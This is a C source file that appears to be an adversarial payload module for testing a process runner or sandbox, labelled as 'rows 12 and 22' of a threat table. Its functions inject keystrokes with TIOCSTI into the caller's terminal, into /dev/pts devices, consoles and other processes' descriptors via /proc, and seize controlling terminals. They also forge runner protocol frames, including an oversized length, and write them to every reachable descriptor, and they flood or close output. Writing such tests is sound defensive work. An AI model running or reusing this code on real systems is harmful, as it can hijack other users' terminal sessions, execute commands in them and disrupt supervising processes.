// Rows 12 and 22: keys pushed into the caller's terminal, words put into the protocol's mouth, output without an end.
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <termios.h>
#include <unistd.h>

#include "payload.h"

static const char typed[] = "injected\n";

static void push(int fd) {
  char paste[] = {3, 0};
  for (const char *key = typed; *key != '\0'; key++) ioctl(fd, TIOCSTI, key);
  ioctl(fd, TIOCLINUX, paste);
}

// Row 12: into whatever terminal can be reached: its own streams, devices, those of others.
static int type_keys(int count, char **arguments) {
  (void)count;
  (void)arguments;
  for (int fd = 0; fd < 3; fd++) {
    push(fd);
    printf("row 12 stream %d %s\n", fd, isatty(fd) ? "terminal" : "no terminal");
  }
  static const char *const paths[] = {"/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", "/dev/ptmx"};
  for (size_t i = 0; i < sizeof paths / sizeof *paths; i++) {
    int fd = open(paths[i], O_RDWR | O_NOCTTY | O_NONBLOCK);
    if (fd < 0) continue;
    if (i > 0) ioctl(fd, TIOCSCTTY, 1);
    push(fd);
    close(fd);
  }
  for (int number = 0; number < 64; number++) {
    char path[64];
    snprintf(path, sizeof path, "/dev/pts/%d", number);
    int fd = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK);
    if (fd < 0) continue;
    push(fd);
    // A session of its own may take one by force.
    if (fork() == 0) {
      setsid();
      ioctl(fd, TIOCSCTTY, 1);
      push(fd);
      _exit(0);
    }
    close(fd);
  }
  for (int pid = 1; pid < 300; pid++) {
    for (int fd = 0; fd < 8; fd++) {
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
      int theirs = pid == getpid() ? -1 : open(path, O_RDWR | O_NOCTTY | O_NONBLOCK);
      if (theirs >= 0) push(theirs);
      if (theirs >= 0) close(theirs);
    }
  }
  puts("row 12 typed");
  return 0;
}

// Row 22: frames as the helper sends them, to every descriptor that there is.
static int speak(int count, char **arguments) {
  (void)count;
  (void)arguments;
  // Greeting, EXITED 0 and DONE on the first channels, a frame of 4 GB.
  char words[512];
  size_t used = 0;
  static const unsigned char magic[8] = {0, 'C', 'R', 'U', 'N', 1, 13, 10};
  memcpy(words, magic, sizeof magic);
  used = sizeof magic;
  for (unsigned char type = 0x80; type != 0x90; type++) {
    const unsigned char frame[] = {22, 0, 0, 0, type, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0};
    memcpy(words + used, frame, sizeof frame);
    used += sizeof frame;
  }
  memset(words + used, 0xff, 9);
  used += 9;
  signal(SIGPIPE, SIG_IGN);
  for (int fd = 0; fd < 4096; fd++) {
    ssize_t ignored = write(fd, words, used);
    (void)ignored;
  }
  DIR *processes = opendir("/proc");
  for (struct dirent *entry = processes == NULL ? NULL : readdir(processes); entry != NULL; entry = readdir(processes)) {
    for (int fd = 0; atoi(entry->d_name) > 0 && fd < 16; fd++) {
      char path[300];
      snprintf(path, sizeof path, "/proc/%s/fd/%d", entry->d_name, fd);
      if (atoi(entry->d_name) == getpid()) continue;
      int theirs = open(path, O_WRONLY | O_NONBLOCK | O_NOCTTY);
      if (theirs < 0) continue;
      ssize_t ignored = write(theirs, words, used);
      (void)ignored;
      close(theirs);
    }
  }
  puts("\nrow 22 spoken");
  return 3;
}

// Row 22: MEGABYTES without a newline to stdout and stderr.
static int flood(int count, char **arguments) {
  static char block[65536];
  memset(block, 'x', sizeof block);
  for (long left = (count > 0 ? atol(arguments[0]) : 1) * 16; left > 0; left--) {
    int fd = count > 1 && left % 2 ? 2 : 1;
    if (write(fd, block, sizeof block) < 0) return 1;
  }
  return 0;
}

// Row 22: closes its streams and goes on for MILLISECONDS.
static int mute(int count, char **arguments) {
  for (int fd = 0; fd < 3; fd++) close(fd);
  usleep((useconds_t)(count > 0 ? atol(arguments[0]) : 100) * 1000);
  return 5;
}

const struct attack terminal_attacks[] = {
    {"type", type_keys}, {"speak", speak}, {"flood", flood}, {"mute", mute}, {NULL, NULL}};
